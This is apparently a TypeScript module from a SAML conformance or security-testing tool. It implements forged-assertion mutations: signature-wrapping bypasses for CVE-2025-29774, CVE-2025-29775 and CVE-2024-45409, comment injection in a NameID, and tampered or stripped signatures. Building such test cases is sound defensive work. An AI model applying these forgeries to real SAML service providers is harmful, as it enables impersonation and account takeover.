/**
 * `saml.signed` attacks on the Signature element itself, and plain damage after signing:
 *
 *   extra-signed-info   CVE-2025-29774 (xml-crypto ≤6.0.0): beside the genuine SignedInfo, a second one
 *                       whose Reference names the forged element with its true digest; the untouched
 *                       original kept in an <a> wrapper (xml-crypto saml_multiple_signed_info_nodes.xml),
 *                       or the extra SignedInfo first, in <WRAPPER> (saml_wrapped_signed_info_node.xml)
 *   digest-comment      CVE-2025-29775: the element forged in place; its DigestValue becomes
 *                       `<!--digest(forged)-->genuineDigest` (valid_saml_with_digest_comment.xml)
 *   stray-reference     CVE-2024-45409 (ruby-saml): a ds:Reference with the forged element's digest, earlier
 *                       in document order than the genuine SignedInfo (`//ds:DigestValue` finds it first)
 *   comment-injection   a comment inside signed text (Duo 2018): exclusive c14n drops comments, so the
 *                       signature stays valid while a naive text read stops at the comment
 *   tamper-signature-value, edit-after-signing, remove-signatures: the signature no longer covers what is sent
 */
import type { Document, Element } from '@xmldom/xmldom';
import { join } from '../../tenant/fields.ts';
import { firstChildNamed, insertAfter } from '../../saml/dom.ts';
import { DSIG_NS, descendants } from '../../saml/xmldsig.ts';
import { evaluateValue } from '../values.ts';
import { NotApplied, notApplied, type SignedMutation } from './context.ts';
import {
  claimIdentity,
  createPrefixedAs,
  digestFor,
  extensionsOf,
  removeSignatures,
  replaceText,
  rewrite,
  setDigestValues,
  signedParts,
  targetElement,
  unsignedCopy,
  type SignedPart,
} from './document.ts';
import { onlyParams, readAttributeName, readChoice, readIdentity, readIdentityOnly, readNoParams, readTarget, readTemplate, type TargetPath } from './params.ts';

/** The signed part these attacks forge: the signed Assertion when there is one (the published templates), else the Response. */
function attackedPart(document: Document): SignedPart | NotApplied {
  const parts = signedParts(document);
  const part = parts.find((candidate) => candidate.element.localName === 'Assertion') ?? parts[0];
  return part ?? notApplied('nothing in the document is signed');
}

/**
 * Makes the attacked element claim `identity` in place; returns the digest its signature's Reference
 * would now need (what these attacks smuggle in beside the genuine one), or why it cannot be computed.
 */
function forgeInPlace({ element, signature }: SignedPart, identity: string): string | NotApplied {
  claimIdentity(element, identity);
  return digestFor(element, signature) ?? notApplied('the signature uses a transform or digest the mutation cannot reproduce');
}

/** The attacked part forged in place, with the digest it would now need. */
function forgeAttackedPart(document: Document, identity: string): { part: SignedPart; digest: string } | NotApplied {
  const part = attackedPart(document);
  if (part instanceof NotApplied) return part;
  const digest = forgeInPlace(part, identity);
  return digest instanceof NotApplied ? digest : { part, digest };
}

export const EXTRA_SIGNED_INFO_VARIANTS = ['sibling', 'wrapped'] as const;

export const extraSignedInfoMutation: SignedMutation<{ variant: (typeof EXTRA_SIGNED_INFO_VARIANTS)[number]; identity: string }> = {
  name: 'extra-signed-info',
  point: 'saml.signed',
  summary: 'CVE-2025-29774: a second SignedInfo naming the forged element (claiming identity) beside the genuine one, or wrapped before it.',
  readParams(raw, path, issues) {
    onlyParams(raw, path, issues, ['variant', 'identity']);
    const variant = readChoice(raw, 'variant', path, issues, EXTRA_SIGNED_INFO_VARIANTS);
    return { variant: variant ?? 'sibling', identity: readIdentity(raw, path, issues) };
  },
  apply(sent, { variant, identity }) {
    return rewrite(sent, (document) => {
      const part = attackedPart(document);
      if (part instanceof NotApplied) return part;
      const { element, signature, id } = part;
      const genuineSignedInfo = firstChildNamed(signature, 'SignedInfo')!;
      const original = unsignedCopy(element);
      const holder = document.createElement('a');
      holder.appendChild(original);
      document.documentElement!.appendChild(holder);
      const forgedId = `${id}_forged`;
      element.setAttribute('ID', forgedId);
      const digest = forgeInPlace(part, identity);
      if (digest instanceof NotApplied) return digest;
      const forgedReference = descendants(genuineSignedInfo, 'Reference')[0]!.cloneNode(true) as Element;
      forgedReference.setAttribute('URI', `#${forgedId}`);
      setDigestValues(forgedReference, digest);
      const forgedSignedInfo = document.createElementNS(DSIG_NS, genuineSignedInfo.tagName);
      forgedSignedInfo.appendChild(forgedReference);
      if (variant === 'sibling') {
        insertAfter(forgedSignedInfo, genuineSignedInfo);
      } else {
        const wrapper = document.createElement('WRAPPER');
        wrapper.appendChild(forgedSignedInfo);
        signature.insertBefore(wrapper, genuineSignedInfo);
      }
      return undefined;
    });
  },
};

export const digestCommentMutation: SignedMutation<{ identity: string }> = {
  name: 'digest-comment',
  point: 'saml.signed',
  summary: 'CVE-2025-29775: the signed element forged in place, its DigestValue prefixed with a comment holding the forged digest.',
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    return rewrite(sent, (document) => {
      const forged = forgeAttackedPart(document, identity);
      if (forged instanceof NotApplied) return forged;
      const value = descendants(forged.part.signature, 'DigestValue')[0]!;
      value.insertBefore(document.createComment(forged.digest), value.firstChild);
      return undefined;
    });
  },
};

export const strayReferenceMutation: SignedMutation<{ identity: string }> = {
  name: 'stray-reference',
  point: 'saml.signed',
  summary: 'CVE-2024-45409: the signed element forged in place; a stray ds:Reference with its digest precedes the genuine SignedInfo in document order.',
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    return rewrite(sent, (document) => {
      const forged = forgeAttackedPart(document, identity);
      if (forged instanceof NotApplied) return forged;
      const { part: { element, signature }, digest } = forged;
      const stray = descendants(signature, 'Reference')[0]!.cloneNode(true) as Element;
      setDigestValues(stray, digest);
      const root = document.documentElement!;
      if (element === root) {
        // Inside the Response's own Signature (which its digest leaves out), ahead of SignedInfo.
        const object = createPrefixedAs(signature, DSIG_NS, 'Object');
        object.appendChild(stray);
        signature.insertBefore(object, signature.firstChild);
      } else {
        // Right after the Response's Issuer: before every Signature in the document.
        const extensions = extensionsOf(root);
        const issuer = firstChildNamed(root, 'Issuer');
        if (issuer) insertAfter(extensions, issuer);
        extensions.appendChild(stray);
      }
      return undefined;
    });
  },
};

interface CommentParams {
  target: TargetPath;
  at: number | string;
}

export const commentInjectionMutation: SignedMutation<CommentParams> = {
  name: 'comment-injection',
  point: 'saml.signed',
  summary: 'Splits signed text with a comment (victim@corp.example<!---->.attacker.test): the signature stays valid, a naive text read is cut short.',
  readParams(raw, path, issues) {
    onlyParams(raw, path, issues, ['target', 'at']);
    const target = readTarget(raw, 'target', path, issues, 'Response/Assertion/Subject/NameID')!;
    const at = raw['at'];
    if (typeof at === 'number') {
      if (!Number.isInteger(at) || at < 1 || at > 100_000) issues.add(join(path, 'at'), 'must be a character offset from 1, or the text the comment goes before');
    } else if (typeof at !== 'string' || at === '' || at.length > 1000) {
      issues.add(join(path, 'at'), 'is required: a character offset from 1, or the text the comment goes before (e.g. ".attacker.test")');
    }
    return { target, at: at as number | string };
  },
  apply(sent, { target, at }) {
    return rewrite(sent, (document) => {
      const element = targetElement(document, target);
      if (element instanceof NotApplied) return element;
      const text = element.textContent ?? '';
      const position = typeof at === 'number' ? at : text.indexOf(at);
      if (position <= 0 || position >= text.length) return notApplied(`the text of ${target.text} cannot be split there`);
      while (element.firstChild) element.removeChild(element.firstChild);
      element.appendChild(document.createTextNode(text.slice(0, position)));
      element.appendChild(document.createComment(''));
      element.appendChild(document.createTextNode(text.slice(position)));
      return undefined;
    });
  },
};

/** The OpenID Foundation suite's signature corruption, applied to XML: every signature byte XOR 0x5A. */
export function corruptSignatureValue(value: string): string {
  return Buffer.from(
    Buffer.from(value.replace(/\s+/g, ''), 'base64').map((byte) => byte ^ 0x5a),
  ).toString('base64');
}

export const tamperSignatureValueMutation: SignedMutation<Record<string, never>> = {
  name: 'tamper-signature-value',
  point: 'saml.signed',
  summary: 'Every SignatureValue byte XOR 0x5A: the signatures are there but do not verify.',
  readParams: readNoParams,
  apply(sent) {
    return rewrite(sent, (document) => {
      const values = descendants(document, 'SignatureValue');
      if (values.length === 0) return notApplied('nothing in the document is signed');
      for (const value of values) replaceText(value, corruptSignatureValue(value.textContent ?? ''));
      return undefined;
    });
  },
};

interface EditParams {
  target: TargetPath;
  attribute: string | undefined;
  value: string;
}

export const editAfterSigningMutation: SignedMutation<EditParams> = {
  name: 'edit-after-signing',
  point: 'saml.signed',
  summary: "Changes the target's text (or one attribute) after signing: the signature no longer covers what is sent.",
  readParams(raw, path, issues) {
    onlyParams(raw, path, issues, ['target', 'attribute', 'value']);
    return {
      target: readTarget(raw, 'target', path, issues)!,
      attribute: raw['attribute'] === undefined ? undefined : readAttributeName(raw, 'attribute', path, issues),
      value: readTemplate(raw, 'value', path, issues)!,
    };
  },
  apply(sent, { target, attribute, value }, ctx) {
    return rewrite(sent, (document) => {
      const element = targetElement(document, target);
      if (element instanceof NotApplied) return element;
      if (attribute) {
        const original = element.hasAttribute(attribute) ? element.getAttribute(attribute)! : undefined;
        element.setAttribute(attribute, String(evaluateValue(value, original, ctx.now, 'iso')));
        return undefined;
      }
      replaceText(element, String(evaluateValue(value, element.textContent ?? '', ctx.now, 'iso')));
      return undefined;
    });
  },
};

export const removeSignaturesMutation: SignedMutation<Record<string, never>> = {
  name: 'remove-signatures',
  point: 'saml.signed',
  summary: 'Strips every ds:Signature (Response and Assertion): the SP gets an unsigned document.',
  readParams: readNoParams,
  apply(sent) {
    return rewrite(sent, (document) => {
      if (removeSignatures(document) === 0) return notApplied('nothing in the document is signed');
      return undefined;
    });
  },
};
